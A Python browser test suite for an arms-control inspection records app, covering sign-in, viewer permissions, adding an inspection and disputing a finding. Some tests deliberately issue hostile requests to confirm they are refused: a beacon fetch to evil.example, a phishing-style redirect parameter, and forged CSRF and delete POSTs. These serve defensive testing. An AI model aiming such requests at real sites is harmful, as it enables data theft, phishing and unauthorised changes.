"""The app in a real browser: sign in and out, record an inspection, what a viewer may do.

Fixtures (live server, Chromium, the page that refuses other hosts) are in conftest.py.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlalchemy import func, select

from cbm.models import AuditEvent, Inspection, User
from cbm.services.records import Actor, upsert_records

pytestmark = pytest.mark.browser

#: Controls that change records; a viewer must see none of them.
EDIT_CONTROLS = (
    "a[href$='/new'], a[href*='/new?'], a[href$='/edit'], a[href$='/delete'], "
    "form[action$='/delete'], form[action$='/edit'], form[action$='/new'], "
    "[data-test=new-record], [data-test=edit-record], [data-test=delete-record]"
)
EDIT_NAMES = re.compile(r"^\s*(New|Add|Edit|Delete)\b")


# --------------------------------------------------------------------------------------
# helpers
# --------------------------------------------------------------------------------------


def path_of(page: Any) -> str:
    return urlsplit(page.url).path


def sign_in(page: Any, username: str, password: str) -> Any:
    """Send the sign-in form of the open /login page; returns the POST's response."""
    assert path_of(page) == "/login", page.url
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(password)
    with page.expect_response(
        lambda r: urlsplit(r.url).path == "/login" and r.request.method == "POST"
    ) as posted:
        page.get_by_role("button", name="Sign in").click()
    page.wait_for_load_state()
    return posted.value


def sign_out(page: Any) -> None:
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_load_state()


def csrf_token(page: Any) -> str:
    """The CSRF token of the open page (every signed-in page has one, in the sign-out form)."""
    token = page.locator("input[name=csrf_token]").first.get_attribute("value")
    assert token
    return token


def edit_controls(page: Any) -> list[str]:
    """Descriptions of every control on the page that would create, change or delete."""
    found = [
        page.locator(EDIT_CONTROLS).nth(i).evaluate("e => e.outerHTML.slice(0, 160)")
        for i in range(page.locator(EDIT_CONTROLS).count())
    ]
    for role in ("link", "button"):
        named = page.get_by_role(role, name=EDIT_NAMES)
        found += [f"{role}: {named.nth(i).inner_text()}" for i in range(named.count())]
    return found


def count_rows(live_server: Any, model: Any, **where: Any) -> int:
    with live_server.session() as session:
        query = select(func.count()).select_from(model)
        for column, value in where.items():
            query = query.where(getattr(model, column) == value)
        return session.scalar(query) or 0


def inspection_row(inspection_id: str, **overrides: str) -> dict[str, str]:
    row = {
        "inspection_id": inspection_id,
        "regime": "VD",
        "kind": "vd_inspection",
        "inspecting_state": "DEU",
        "guest_states": "",
        "inspected_state": "POL",
        "requested_at": "2024-05-02T08:00:00Z",
        "replied_at": "",
        "reply": "",
        "unit": "",
        "area": "Drawsko Pomorskie training area",
        "start_at": "",
        "end_at": "",
        "outcome": "",
        "counts_against_quota": "",
        "team_size": "",
        "report_at": "",
        "concerns_raised": "",
        "findings": "",
    }
    row.update(overrides)
    return row


@pytest.fixture(scope="module")
def seeded(live_server: Any) -> dict[str, str]:
    """One inspection an analyst recorded, for the pages a viewer reads."""
    from cbm.web.records import encode_key

    row = inspection_row("VD-2024-SEED-1", inspected_state="CZE")
    with live_server.session() as session:
        analyst = session.scalar(select(User).where(User.username == "ana"))
        result = upsert_records(session, "inspections", [row], actor=Actor(user_id=analyst.id))
        assert result.ok, result.errors
        session.commit()
    return {**row, "url": f"/records/inspections/{encode_key([row['inspection_id']])}"}


# --------------------------------------------------------------------------------------
# the harness: nothing leaves 127.0.0.1
# --------------------------------------------------------------------------------------


def test_requests_to_other_hosts_are_blocked_and_reported(page: Any, problems: Any) -> None:
    from playwright.sync_api import Error as PlaywrightError

    # A script on our pages cannot even try: the CSP refuses other hosts before the network.
    page.goto("/login")
    outcome = page.evaluate(
        "() => fetch('https://evil.example/beacon').then(() => 'sent', () => 'refused')"
    )
    assert outcome == "refused"
    assert any("Content Security Policy" in m for m in problems.console_errors)
    problems.console_errors.clear()

    # A navigation elsewhere is stopped by the harness, and recorded so the test fails.
    with pytest.raises(PlaywrightError, match="ERR_BLOCKED_BY_CLIENT"):
        page.goto("https://evil.example/landing")
    assert problems.blocked == ["https://evil.example/landing"]
    assert problems.unexpected(), "a blocked request must fail the test"
    problems.blocked.clear()


# --------------------------------------------------------------------------------------
# sign in, sign out
# --------------------------------------------------------------------------------------


def test_sign_in_and_out(
    page: Any,
    live_server: Any,
    shots: Callable[[Any, str], Path],
    context: Any,
    problems: Any,
) -> None:
    page.goto("/")
    assert path_of(page) == "/login"
    assert parse_qs(urlsplit(page.url).query)["next"] == ["/"]
    assert page.get_by_role("heading", name="Sign in").is_visible()
    shots(page, "sign-in-form")

    problems.expect_console_error(r"status of 401")  # Chromium logs the failed sign-in
    failed = sign_in(page, "ana", "not the password")
    assert failed.status == 401
    assert path_of(page) == "/login"
    alert = page.get_by_role("alert")
    assert "Wrong username or password" in alert.inner_text()
    assert page.get_by_label("Username").input_value() == "ana"
    assert page.get_by_label("Password").input_value() == "", "the password was echoed back"
    shots(page, "sign-in-failed")

    ok = sign_in(page, "ana", live_server.password)
    assert ok.status == 302
    assert path_of(page) == "/"
    assert page.get_by_role("heading", name="What is stored").is_visible()
    header = page.locator(".user-menu").inner_text()
    assert "Ana Lyst" in header and "analyst" in header.lower()
    cookie = next(c for c in context.cookies() if c["name"] == "cbm_session")
    assert cookie["httpOnly"] is True
    assert cookie["sameSite"] == "Lax"
    assert cookie["secure"] is False  # CBM_ENV=test, served over http
    shots(page, "signed-in")

    sign_out(page)
    assert path_of(page) == "/login"
    assert "You are signed out." in page.locator(".flashes").inner_text()
    shots(page, "signed-out")

    page.goto("/records/")
    assert path_of(page) == "/login", "the session outlived sign-out"
    assert parse_qs(urlsplit(page.url).query)["next"] == ["/records/"]


def test_sign_in_returns_to_the_page_asked_for(page: Any, live_server: Any) -> None:
    page.goto("/records/inspections/?q=VD")
    assert path_of(page) == "/login"
    sign_in(page, "vic", live_server.password)
    assert path_of(page) == "/records/inspections/"
    assert parse_qs(urlsplit(page.url).query) == {"q": ["VD"]}


def test_a_hostile_next_lands_on_the_overview(page: Any, live_server: Any) -> None:
    page.goto("/login?next=//evil.example/phish")
    sign_in(page, "vic", live_server.password)
    assert page.url == f"{live_server.url}/"


# --------------------------------------------------------------------------------------
# a viewer reads but cannot write
# --------------------------------------------------------------------------------------


def test_analyst_sees_edit_controls(page: Any, live_server: Any, seeded: dict[str, str]) -> None:
    """The control case for the viewer test: the selectors do find the controls."""
    page.goto("/login")
    sign_in(page, "ana", live_server.password)
    page.goto("/records/inspections/")
    assert page.locator("[data-test=new-record]").is_visible()
    page.goto(seeded["url"])
    controls = edit_controls(page)
    assert any("edit-record" in c for c in controls), controls
    assert any("delete-record" in c for c in controls), controls


def test_viewer_sees_no_edit_controls_and_forged_posts_are_refused(
    page: Any,
    live_server: Any,
    seeded: dict[str, str],
    shots: Callable[[Any, str], Path],
    problems: Any,
) -> None:
    page.goto("/records/inspections/")
    sign_in(page, "vic", live_server.password)
    assert path_of(page) == "/records/inspections/"
    assert page.get_by_role("heading", name="Inspections").is_visible()
    assert seeded["inspection_id"] in page.locator("table").first.inner_text()
    assert edit_controls(page) == []
    shots(page, "viewer-list")

    page.get_by_role("link", name=seeded["inspection_id"]).first.click()
    page.wait_for_load_state()
    assert path_of(page) == seeded["url"]
    assert page.locator("[data-test=history]").is_visible()
    assert edit_controls(page) == []
    shots(page, "viewer-record")

    # Typing the address of a form is refused too.
    response = page.goto("/records/inspections/new")
    assert response.status == 403
    assert page.get_by_role("heading", name="Forbidden").is_visible()
    shots(page, "viewer-forbidden")
    page.goto(seeded["url"])
    token = csrf_token(page)

    before = {
        "inspections": count_rows(live_server, Inspection),
        "audit": count_rows(live_server, AuditEvent),
    }
    forged = inspection_row("VD-2024-FORGED-1")

    # 1. A cross-site style POST: the session cookie rides along, but no CSRF token.
    no_token = page.request.post("/records/inspections/new", form=forged, max_redirects=0)
    assert no_token.status == 400, no_token.status
    # 2. The viewer's own valid token: past CSRF, refused by role.
    with_token = page.request.post(
        "/records/inspections/new", form={**forged, "csrf_token": token}, max_redirects=0
    )
    assert with_token.status == 403, with_token.status
    # 3. A script on the page deleting the seeded record with the token.
    problems.expect_console_error(r"status of 403")
    status = page.evaluate(
        """async ([url, token]) => {
            const body = new URLSearchParams({csrf_token: token});
            const r = await fetch(url, {method: "POST", body, redirect: "manual"});
            return r.status;
        }""",
        [seeded["url"] + "/delete", token],
    )
    assert status == 403, status
    # 4. And an edit, without and with the token.
    edit_url = seeded["url"] + "/edit"
    assert page.request.post(edit_url, form=forged, max_redirects=0).status == 400
    assert (
        page.request.post(edit_url, form={**forged, "csrf_token": token}, max_redirects=0).status
        == 403
    )

    assert count_rows(live_server, Inspection) == before["inspections"], "a forged POST wrote"
    assert count_rows(live_server, AuditEvent) == before["audit"], "a forged POST was audited"
    assert count_rows(live_server, Inspection, inspection_id="VD-2024-FORGED-1") == 0
    assert count_rows(live_server, Inspection, inspection_id=seeded["inspection_id"]) == 1
    with live_server.session() as session:
        stored = session.scalar(
            select(Inspection).where(Inspection.inspection_id == seeded["inspection_id"])
        )
        assert stored.inspected_state == "CZE"


# --------------------------------------------------------------------------------------
# an analyst records an inspection
# --------------------------------------------------------------------------------------


def test_record_an_inspection(
    page: Any,
    live_server: Any,
    shots: Callable[[Any, str], Path],
    problems: Any,
) -> None:
    """Sign in, add an inspection, hit a validation error, fix it, find it, read its history."""
    inspection_id = "VD-2024-E2E-7"
    page.goto("/login")
    sign_in(page, "ana", live_server.password)

    # Through the navigation, as a person would: Records -> Inspections -> Add.
    page.get_by_role("navigation", name="Main").get_by_role("link", name="Records").click()
    page.wait_for_load_state()
    assert path_of(page) == "/records/"
    page.locator("main a[href='/records/inspections/']").first.click()
    page.wait_for_load_state()
    assert path_of(page) == "/records/inspections/"
    page.locator("main a[href='/records/inspections/new']").first.click()
    page.wait_for_load_state()
    assert path_of(page) == "/records/inspections/new"
    shots(page, "empty-form")

    form = page.locator("form[method=post]", has=page.locator("[name=inspection_id]"))
    form.locator("[name=inspection_id]").fill(inspection_id)
    form.locator("[name=regime]").select_option("VD")
    form.locator("[name=kind]").select_option("vd_inspection")
    form.locator("[name=inspecting_state]").fill("DEU")
    form.locator("[name=inspected_state]").fill("DEU")  # a State cannot inspect itself
    form.locator("[name=requested_at]").fill("2024-03-04T09:30")
    form.locator("[name=start_at]").fill("2024-03-11T08:00")
    form.locator("[name=end_at]").fill("2024-03-12T16:00")
    form.locator("[name=outcome]").select_option("completed")
    form.locator("[name=team_size]").fill("4")
    form.locator("[name=area]").fill("Specified area around Marienberg")
    submit = form.locator("button[type=submit]")

    problems.expect_console_error(r"status of 422")  # Chromium logs the refused form
    with page.expect_response(
        lambda r: r.request.method == "POST" and urlsplit(r.url).path.endswith("/new")
    ) as refused:
        submit.click()
    page.wait_for_load_state()
    assert refused.value.status == 422
    field = page.locator("[data-field=inspected_state]")
    error = field.locator("[data-error-for=inspected_state]")
    assert error.is_visible()
    assert "cannot inspect itself" in error.inner_text()
    assert field.locator("input").get_attribute("aria-invalid") == "true"
    assert "field--error" in (field.get_attribute("class") or "")
    summary = page.locator("[data-test=error-summary]")
    assert "Nothing was saved" in summary.inner_text()
    assert summary.locator("a[href='#f-inspected_state']").count() == 1
    # What was typed is kept, so only the wrong value needs typing again.
    assert form.locator("[name=inspection_id]").input_value() == inspection_id
    assert form.locator("[name=requested_at]").input_value() == "2024-03-04T09:30"
    assert form.locator("[name=team_size]").input_value() == "4"
    assert count_rows(live_server, Inspection, inspection_id=inspection_id) == 0
    shots(page, "validation-error")

    form.locator("[name=inspected_state]").fill("POL")
    with page.expect_response(
        lambda r: r.request.method == "POST" and urlsplit(r.url).path.endswith("/new")
    ) as saved:
        submit.click()
    page.wait_for_load_state()
    assert saved.value.status == 303
    record_path = path_of(page)
    assert record_path.startswith("/records/inspections/") and inspection_id in record_path
    assert (
        f"Added inspection or evaluation visit {inspection_id}."
        in page.locator(".flashes").inner_text()
    )
    assert page.get_by_role("heading", level=1).inner_text().endswith(inspection_id)
    shots(page, "saved")

    with live_server.session() as session:
        stored = session.scalar(select(Inspection).where(Inspection.inspection_id == inspection_id))
        assert stored is not None
        assert stored.inspected_state == "POL"
        assert stored.requested_at.isoformat() == "2024-03-04T09:30:00+00:00", (
            "the time typed into the form is not stored as that UTC time"
        )
        assert stored.team_size == 4
        ana = session.scalar(select(User).where(User.username == "ana"))
        assert stored.created_by_id == ana.id

    # Find it in the list with the free-text filter.
    page.locator("main a[href='/records/inspections/']").first.click()  # the breadcrumb
    page.wait_for_load_state()
    assert path_of(page) == "/records/inspections/"
    search = page.locator("form[role=search] [name=q]")
    search.fill("E2E-7")
    search.press("Enter")
    page.wait_for_load_state()
    assert parse_qs(urlsplit(page.url).query).get("q") == ["E2E-7"]
    links = page.locator("[data-test=record-link]")
    assert links.count() == 1, [links.nth(i).inner_text() for i in range(links.count())]
    assert links.first.inner_text() == inspection_id
    shots(page, "found-in-list")

    # Its record page and history.
    links.first.click()
    page.wait_for_load_state()
    assert path_of(page) == record_path
    history = page.locator("[data-test=history]")
    assert history.is_visible()
    entries = history.locator("tbody[data-action]")
    assert entries.count() == 1
    created = entries.first
    assert created.get_attribute("data-action") == "create"
    assert created.get_attribute("data-actor") == "ana"
    text = created.inner_text()
    assert "created" in text and "ana" in text
    # The creation lists every value set, with its "after" value as the page shows it.
    after = {
        field: created.locator(f"tr:has([data-change={field}]) td").last.inner_text().strip()
        for field in ("inspection_id", "inspected_state", "requested_at", "team_size")
    }
    assert after == {
        "inspection_id": inspection_id,
        "inspected_state": "POL",
        "requested_at": "2024-03-04 09:30 UTC",
        "team_size": "4",
    }
    assert "by ana" in page.locator("[data-test=provenance]").inner_text()
    shots(page, "history")

    sign_out(page)
    assert path_of(page) == "/login"
    page.goto(record_path)
    assert path_of(page) == "/login"


# --------------------------------------------------------------------------------------
# findings: an analyst disputes one
# --------------------------------------------------------------------------------------


def test_analyst_disputes_a_finding(
    page: Any, live_server: Any, shots: Callable[[Any, str], Path]
) -> None:
    import datetime as dt

    from cbm.models import Finding, FindingEvent

    with live_server.session() as session:
        finding = Finding(
            finding_key="VD-I-3|browser|ARM|2021",
            rule_id="VD-I-3",
            regime="VD",
            severity="breach",
            status="open",
            state="ARM",
            subject_type="notification",
            subject_id="",
            period="2021",
            due_at=dt.datetime(2020, 12, 15, 23, 59, 59, tzinfo=dt.UTC),
            summary=(
                "ARM has no annual exchange of military information for 2021 on record; "
                "VD 2011 ¶10 requires it by 15 December 2020."
            ),
            evidence={"due_at": "2020-12-15T23:59:59Z", "covers_year": 2021, "submission": None},
        )
        session.add(finding)
        session.commit()
        finding_id = finding.id

    page.goto("/findings")
    assert path_of(page) == "/login"
    sign_in(page, "ana", live_server.password)
    assert path_of(page) == "/findings"
    row = page.locator(f"tr[data-finding='{finding_id}']")
    assert "ARM has no annual exchange" in row.inner_text()
    shots(page, "findings")

    row.get_by_role("link", name=f"#{finding_id}").click()
    page.wait_for_load_state()
    assert path_of(page) == f"/findings/{finding_id}"
    assert "VD 2011 ¶10" in page.locator("[data-test=finding-facts]").inner_text()
    shots(page, "finding")

    comment = "ARM says it sent the exchange by diplomatic note; checking the archive."
    form = page.locator("form[data-action=dispute]")
    form.get_by_label("Dispute: comment").fill(comment)
    form.get_by_role("button", name="Dispute").click()
    page.wait_for_load_state()
    assert path_of(page) == f"/findings/{finding_id}"
    assert f"Finding {finding_id} is disputed." in page.locator(".flashes").inner_text()
    entry = page.locator("[data-test=history] li[data-action=disputed]")
    assert entry.count() == 1
    text = entry.inner_text()
    assert "Disputed" in text and comment in text and "Ana Lyst" in text
    assert page.locator("[data-status=disputed]").first.is_visible()
    shots(page, "disputed")

    with live_server.session() as session:
        event = session.scalars(
            select(FindingEvent).where(FindingEvent.finding_id == finding_id)
        ).one()
        ana = session.scalar(select(User).where(User.username == "ana"))
        assert (event.action, event.user_id, event.comment) == ("disputed", ana.id, comment)
